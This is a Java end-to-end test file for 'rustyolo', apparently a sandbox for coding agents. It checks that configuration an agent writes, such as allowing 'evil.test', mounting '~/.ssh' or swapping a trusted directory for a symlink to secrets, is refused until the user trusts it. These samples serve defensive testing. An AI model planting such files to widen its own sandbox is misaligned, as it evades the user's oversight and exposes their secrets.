package dev.rustyolo.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rustyolo.e2e.attack.Judge;
import dev.rustyolo.e2e.lab.Addresses;
import dev.rustyolo.e2e.lab.Lab;
import dev.rustyolo.e2e.lab.Nonce;
import dev.rustyolo.e2e.process.Output;
import dev.rustyolo.e2e.process.Program;
import dev.rustyolo.e2e.sandbox.Account;
import dev.rustyolo.e2e.sandbox.Project;
import dev.rustyolo.e2e.sandbox.Rustyolo;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Configuration files, the user's and the ones that an agent may have written (catalogue T106, T107, T127). */
@ExtendWith(LabExtension.class)
final class ConfigFilesTest {
    private static final Duration PATIENCE = Duration.ofSeconds(30);
    private static final String QUESTION = "Trust exactly this?";
    private static final String HOSTILE = "[default]\\nallow_domains = [\"evil.test\"]\\n";

    private final Lab lab;
    private final Project project = Project.create(Account.unprivileged());
    private final Rustyolo rustyolo;
    private final Nonce nonce = Nonce.fresh();
    private final Lab.Mark mark;

    ConfigFilesTest(Lab lab) {
        this.lab = lab;
        this.rustyolo = Rustyolo.inLab(project, lab);
        this.mark = lab.mark();
    }

    @AfterEach
    void deleteProject() {
        project.close();
    }

    @Test
    void theUsersFileSaysWhatMayBeReachedAndHow() {
        Rustyolo bare = Rustyolo.in(project);
        user("""
                [default]
                allow_domains = ["allowed.test"]
                ca_cert = "%s"
                [security]
                dns_servers = ["%s"]
                [network]
                name = "%s"
                [profiles.closed]
                deny_domains = ["allowed.test"]
                """.formatted(lab.certificates().authority(), Addresses.v4(Addresses.DNS), Lab.NETWORK));

        Output closed = bare.with("--profile", "closed").run(fetch("allowed.test"));
        assertThat(closed.exitCode()).as(closed.text()).isNotZero();
        assertThat(seen()).isFalse();

        Output open = bare.run(fetch("allowed.test"));
        assertThat(open.exitCode()).as(open.text()).isZero();
        assertThat(seen()).isTrue();
    }

    @Test
    void whatAnAgentWritesWidensNoNextRun() throws IOException {
        // Given
        inside("printf '" + HOSTILE + "' > .rustyolo.toml");

        // Then
        assertRefused("is not trusted, and asks for more than you allow by yourself: may reach \"evil.test\"");
        Output blind = rustyolo(List.of()).run("trust");
        assertThat(blind.exitCode()).as(blind.text()).isEqualTo(2);
        assertThat(blind.err()).contains("there is no terminal to ask you on");
        assertRefused("is not trusted");

        // When
        assertThat(trust("n")).isEqualTo(2);
        assertRefused("is not trusted");
        assertThat(trust("y")).isZero();

        // Then
        Output trusted = rustyolo.run(fetch("evil.test"));
        assertThat(trusted.exitCode()).as(trusted.text()).isZero();
        assertThat(seen()).isTrue();
        assertThat(modes()).containsOnly("rw-------");

        // When
        inside("printf 'volumes = [\"~/.ssh:/s\"]\\n' >> .rustyolo.toml");

        // Then
        Output changed = rustyolo.run(fetch("evil.test"));
        assertThat(changed.exitCode()).isEqualTo(2);
        assertThat(changed.err()).contains("is not trusted any more, since it has changed");
        Output difference = rustyolo(List.of()).run("trust");
        assertThat(difference.out())
                .contains("+ sees files of yours, AND CAN CHANGE THEM: \"~/.ssh:/s\"")
                .doesNotContain("evil.test");
    }

    @Test
    void whatNarrowsIsMissedWhenItWasTrusted() {
        // Given
        project.write(".rustyolo.toml", "[default]\ndeny_domains = [\"allowed.test\"]\n");
        assertThat(trust("y")).isZero();

        // When
        inside("rm .rustyolo.toml");

        // Then
        Output end = rustyolo.with("--allow-domains", "allowed.test").run(fetch("allowed.test"));
        assertThat(end.exitCode()).as(end.text()).isEqualTo(2);
        assertThat(end.err()).contains("/.rustyolo.toml is gone");
        assertThat(seen()).isFalse();
        assertThat(rustyolo(List.of()).run("trust", "--revoke").exitCode()).isZero();
        assertThat(rustyolo.with("--allow-domains", "allowed.test")
                        .run(fetch("allowed.test"))
                        .exitCode())
                .isZero();
        assertThat(seen()).isTrue();
    }

    @Test
    void whatWasTypedBeforeTheQuestionTrustsNothing() {
        project.write(".rustyolo.toml", "[default]\nallow_domains = [\"evil.test\"]\n");
        String trust = Rustyolo.binary() + " trust";

        // The shell takes the first line; the others wait in the terminal when the question comes, the last one
        // unfinished.
        try (Program terminal = rustyolo.shellOnTerminal("read first; " + trust)) {
            terminal.send("first\ny\ny");
            terminal.out().await("the question", PATIENCE, line -> line.contains(QUESTION));
            terminal.send("");
            Output end = terminal.await(PATIENCE);
            assertThat(end.exitCode()).as(end.text()).isEqualTo(2);
        }

        assertRefused("is not trusted");
        assertThat(trust("y")).isZero();
    }

    @Test
    void plantedLinksAndPipesAreRefused() {
        for (String planted : List.of(
                "printf '[default]\\n' > real; ln -s real .rustyolo.toml",
                "ln -sf /nowhere .rustyolo.toml",
                "rm .rustyolo.toml; mkfifo .rustyolo.toml",
                "rm .rustyolo.toml; mkdir .rustyolo.toml",
                "rmdir .rustyolo.toml; head -c 1048577 /dev/zero > .rustyolo.toml",
                "printf '\\377' > .rustyolo.toml")) {
            outside(planted);
            assertRefused("/.rustyolo.toml: it ");
        }
    }

    @Test
    void aTrustedMountThatBecameALinkIsRefused() {
        // Given
        project.write("data/file", "harmless");
        project.write(project.home().resolve("secrets/key"), "precious");
        project.write(".rustyolo.toml", "[default]\nvolumes = [\"./data:/data:ro\"]\n");
        assertThat(trust("y")).isZero();
        assertThat(rustyolo.run("--", "cat", "/data/file").out()).contains("harmless");

        // When
        inside("rm -r data && ln -s ../home/secrets data");

        // Then
        Output end = rustyolo.run("--", "cat", "/data/key");
        assertThat(end.exitCode()).as(end.text()).isEqualTo(77);
        assertThat(end.text()).contains("leads out of the project, by a link").doesNotContain("precious");
    }

    @Test
    void anAgentOfTheUsersOwnRuns() {
        user("""
                [default]
                agent = "mine"
                [agents.mine]
                command = ["python3", "-c", "import os, sys; print('mine', os.environ['MINE'], sys.argv[1:])"]
                api_domains = ["allowed.test"]
                skip_permissions = ["--yes"]
                information_flags = ["--version"]
                env = ["MINE=1"]
                """);

        Output named = rustyolo.run("mine", "--version");
        Output byDefault = rustyolo.run();

        assertThat(named.out()).as(named.text()).contains("mine 1 ['--version']");
        assertThat(byDefault.out()).as(byDefault.text()).contains("mine 1 ['--yes']");
        assertThat(byDefault.err()).contains("allowed domains that come with mine: allowed.test");
    }

    @Test
    void mistakesAreSaidWithTheirPlace() {
        user("[default]\nallow_domain = [\"a.test\"]\n");

        Output end = rustyolo.run("--", "true");

        assertThat(end.exitCode()).isEqualTo(2);
        assertThat(end.err()).contains("/rustyolo.toml:2:1: there is no key \"allow_domain\"");
        assertThat(end.err()).contains("did you mean allow_domains?");
    }

    @Test
    void aProjectNarrowsByItself() {
        Rustyolo open = rustyolo.with("--allow-domains", "allowed.test");
        project.write(".rustyolo.toml", "[default]\ndeny_domains = [\"allowed.test\"]\n[resources]\npids_limit = 64\n");

        Output end = open.run(fetch("allowed.test"));

        assertThat(end.exitCode()).as(end.text()).isNotEqualTo(2).isNotZero();
        assertThat(seen()).isFalse();
        outside("rm .rustyolo.toml");
        assertThat(open.run(fetch("allowed.test")).exitCode()).isZero();
        assertThat(seen()).isTrue();
    }

    @Test
    void initWritesAFileThatChangesNothingAndIsTheUsers() throws IOException {
        project.write("package.json", "{}");

        Output init = rustyolo(List.of()).run("init");
        Path file = project.directory().resolve(".rustyolo.toml");

        assertThat(init.exitCode()).as(init.text()).isZero();
        assertThat(Files.getAttribute(file, "unix:uid"))
                .isEqualTo(project.account().uid());
        assertThat(rustyolo.run("--", "true").exitCode()).isZero();
        assertThat(rustyolo(List.of()).run("init").exitCode()).isEqualTo(2);
        assertThat(rustyolo(List.of()).run("config", "show", "--origin").out()).contains("memory = \"4g\" # built in");
    }

    private Rustyolo rustyolo(List<String> options) {
        return new Rustyolo(project, rustyolo.environment(), options);
    }

    private void assertRefused(String why) {
        Output end = rustyolo.run(fetch("evil.test"));
        assertThat(end.exitCode()).as(end.text()).isEqualTo(2);
        assertThat(end.err()).contains(why);
        assertThat(seen()).isFalse();
    }

    /** Runs a script as an agent would, in a session. */
    private void inside(String script) {
        Output end = rustyolo.run("--", "sh", "-c", script);
        assertThat(end.exitCode()).as(end.text()).isZero();
    }

    /** The same where no session starts any more. */
    private void outside(String script) {
        try (Program shell = rustyolo.shell(script)) {
            Output end = shell.await(PATIENCE);
            assertThat(end.exitCode()).as(end.text()).isZero();
        }
    }

    private int trust(String answer) {
        try (Program terminal = rustyolo(List.of()).startOnTerminal("trust")) {
            terminal.out().await("the question", PATIENCE, line -> line.contains(QUESTION));
            terminal.send(answer);
            return terminal.await(PATIENCE).exitCode();
        }
    }

    private void user(String text) {
        project.write(project.home().resolve(".config/rustyolo.toml"), text);
    }

    private boolean seen() {
        lab.settle();
        return !new Judge(Map.of("fetch", nonce)).leaks(lab.since(mark)).isEmpty();
    }

    private List<String> modes() throws IOException {
        try (Stream<Path> files = Files.list(project.home().resolve(".local/state/rustyolo/trust"))) {
            return files.map(ConfigFilesTest::mode).toList();
        }
    }

    private static String mode(Path file) {
        try {
            return PosixFilePermissions.toString(Files.getPosixFilePermissions(file));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private String[] fetch(String name) {
        return new String[] {"--", "curl", "-sS", "-m", "5", "https://" + name + "/" + nonce.text()};
    }
}
